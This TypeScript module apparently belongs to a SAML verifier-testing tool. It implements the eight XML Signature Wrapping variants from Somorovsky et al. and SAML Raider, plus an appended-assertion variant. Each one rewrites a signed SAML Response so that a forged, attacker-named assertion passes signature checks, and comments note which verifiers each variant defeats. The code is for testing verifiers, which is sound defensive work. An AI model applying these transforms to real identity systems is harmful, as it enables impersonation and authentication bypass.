import type { Element } from '@xmldom/xmldom';
import { NS } from '../namespaces.ts';
import {
  assertionsOf,
  evilId,
  forge,
  type Genuine,
  parseGenuine,
  requireResponseSignature,
  requireSignedAssertion,
  serialize,
  unsignedCopy,
} from './dom.ts';
import type { TamperContext, TamperDef } from './types.ts';

/*
 * XML Signature Wrapping, in the eight forms SAML Raider (helpers/XSWHelpers.java) applies, from
 * Somorovsky et al. The genuine signature is never touched: its Reference still resolves to an
 * element whose canonical form is what the IdP signed, while a forged element (fresh ID, attacker
 * NameID, no signature) sits where a reader that does not tie claims to the verified node looks.
 *
 * Notation: R, A = genuine Response, assertion; S = the genuine signature; R', A' = forged.
 * Where SAML Raider leaves a forged element with the genuine ID (XSW7, XSW8, the assertions of
 * XSW1-2) it gets a fresh one here, so IDs stay unique; SAML Raider's namespace-less Extensions
 * and Object are samlp:Extensions (in its schema position) and ds:Object, which keep the message
 * schema-valid: the reason these two variants exist.
 *
 * XSW1, XSW6 and XSW8 put the referenced copy inside the ds:Signature. The enveloped-signature
 * transform (XML Signature 1.1, 6.6.4) removes the whole Signature subtree from what is digested,
 * copy included, so a conformant verifier such as xmlsec1 sees a digest mismatch (and refuses XSW1
 * and XSW6 earlier, for a Signature child the schema does not allow). They get through verifiers
 * whose enveloped transform only strips a signature found inside the referenced element, as
 * xml-crypto's does.
 */

const PAPER = 'Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012';

function xsw(
  n: number,
  title: string,
  needs: TamperDef['needs'],
  mutate: (g: Genuine, ctx: TamperContext, name: string) => void,
): TamperDef {
  const name = `xsw${n}`;
  return {
    name,
    title,
    source: `${PAPER} (XSW${n}, as applied by SAML Raider)`,
    needs,
    apply(xml, ctx) {
      const g = parseGenuine(xml, name);
      mutate(g, ctx, name);
      return serialize(g.doc);
    },
  };
}

/** The genuine Response without its signature, and the Response turned into the attacker's (fresh ID, forged assertions). */
function wrapResponse(g: Genuine, ctx: TamperContext, name: string): { signature: Element; copy: Element } {
  const signature = requireResponseSignature(g, name);
  const copy = unsignedCopy(g.response);
  g.response.setAttribute('ID', evilId(g.response.getAttribute('ID') ?? ''));
  for (const a of assertionsOf(g.response)) forge(a, ctx.attackerNameId);
  return { signature, copy };
}

/** XSW1: R'(fresh ID)[Issuer, S[SignedInfo, SignatureValue, KeyInfo, R(unsigned copy)], Status, A']. */
export const xsw1 = xsw(
  1,
  'Signed Response moved inside its own signature; forged Response around it',
  'response-signature',
  (g, ctx, name) => {
    const { signature, copy } = wrapResponse(g, ctx, name);
    signature.appendChild(copy);
  },
);

/** XSW2: R'(fresh ID)[Issuer, R(unsigned copy), S, Status, A'] — the signature now detached. */
export const xsw2 = xsw(
  2,
  'Signed Response copied before its signature (detached); forged Response around it',
  'response-signature',
  (g, ctx, name) => {
    const { signature, copy } = wrapResponse(g, ctx, name);
    g.response.insertBefore(copy, signature);
  },
);

/** XSW3: R[…, A'(unsigned), A[S]] — forged assertion first, genuine one untouched after it. */
export const xsw3 = xsw(
  3,
  'Forged assertion inserted before the signed assertion',
  'assertion-signature',
  (g, ctx, name) => {
    const { assertion } = requireSignedAssertion(g, name);
    g.response.insertBefore(forge(unsignedCopy(assertion), ctx.attackerNameId), assertion);
  },
);

/** XSW4: R[…, A'(unsigned)[…, A[S]]] — forged assertion at the end of the Response wraps the genuine one. */
export const xsw4 = xsw(
  4,
  'Forged assertion wraps the signed assertion',
  'assertion-signature',
  (g, ctx, name) => {
    const { assertion } = requireSignedAssertion(g, name);
    const evil = forge(unsignedCopy(assertion), ctx.attackerNameId);
    g.response.appendChild(evil);
    evil.appendChild(assertion);
  },
);

/** XSW5: R[…, A'[S], …, A(unsigned copy)] — the genuine assertion's place and signature taken by the forged one; a copy at the end. */
export const xsw5 = xsw(
  5,
  'Forged assertion keeps the signature; signed content copied to the end of the Response',
  'assertion-signature',
  (g, ctx, name) => {
    const { assertion } = requireSignedAssertion(g, name);
    g.response.appendChild(unsignedCopy(assertion));
    forge(assertion, ctx.attackerNameId, true);
  },
);

/** XSW6: R[…, A'[S[…, A(unsigned copy)]]] — the copy the signature refers to sits inside the signature. */
export const xsw6 = xsw(
  6,
  'Forged assertion keeps the signature, which encloses the signed content',
  'assertion-signature',
  (g, ctx, name) => {
    const { assertion, signature } = requireSignedAssertion(g, name);
    signature.appendChild(unsignedCopy(assertion));
    forge(assertion, ctx.attackerNameId, true);
  },
);

/** XSW7: R[Issuer, S?, samlp:Extensions[A'(unsigned)], Status, …, A[S]] — the forged assertion hides in the schema's lax Extensions. */
export const xsw7 = xsw(
  7,
  'Forged assertion inside samlp:Extensions before the signed assertion',
  'assertion-signature',
  (g, ctx, name) => {
    const { assertion } = requireSignedAssertion(g, name);
    const extensions = g.doc.createElementNS(
      NS.samlp,
      `${g.response.prefix ? `${g.response.prefix}:` : ''}Extensions`,
    );
    extensions.appendChild(forge(unsignedCopy(assertion), ctx.attackerNameId));
    // StatusResponseType: Issuer?, ds:Signature?, Extensions?, Status, …
    let before = g.response.firstChild;
    while (
      before &&
      (before.nodeType !== 1 ||
        ((before as Element).namespaceURI === NS.saml && (before as Element).localName === 'Issuer') ||
        ((before as Element).namespaceURI === NS.ds && (before as Element).localName === 'Signature'))
    ) {
      before = before.nextSibling;
    }
    g.response.insertBefore(extensions, before);
  },
);

/** XSW8: R[…, A'[S[…, ds:Object[A(unsigned copy)]]]] — as XSW6, the copy in the signature's lax ds:Object. */
export const xsw8 = xsw(
  8,
  'Forged assertion keeps the signature, whose ds:Object holds the signed content',
  'assertion-signature',
  (g, ctx, name) => {
    const { assertion, signature } = requireSignedAssertion(g, name);
    const object = g.doc.createElementNS(NS.ds, `${signature.prefix ? `${signature.prefix}:` : ''}Object`);
    object.appendChild(unsignedCopy(assertion));
    signature.appendChild(object);
    forge(assertion, ctx.attackerNameId, true);
  },
);

/** R[…, A[S], A'(unsigned)] — a second, unsigned assertion after the signed one. */
export const xswAppendedAssertion: TamperDef = {
  name: 'xsw-appended-assertion',
  title: 'Unsigned forged assertion appended after the signed assertion',
  source: `${PAPER}; SAML profiles 4.1.4.2 (a Response may carry several assertions)`,
  needs: 'assertion-signature',
  apply(xml, ctx) {
    const g = parseGenuine(xml, 'xsw-appended-assertion');
    const { assertion } = requireSignedAssertion(g, 'xsw-appended-assertion');
    g.response.appendChild(forge(unsignedCopy(assertion), ctx.attackerNameId));
    return serialize(g.doc);
  },
};

export const XSW: readonly TamperDef[] = [
  xsw1,
  xsw2,
  xsw3,
  xsw4,
  xsw5,
  xsw6,
  xsw7,
  xsw8,
  xswAppendedAssertion,
];
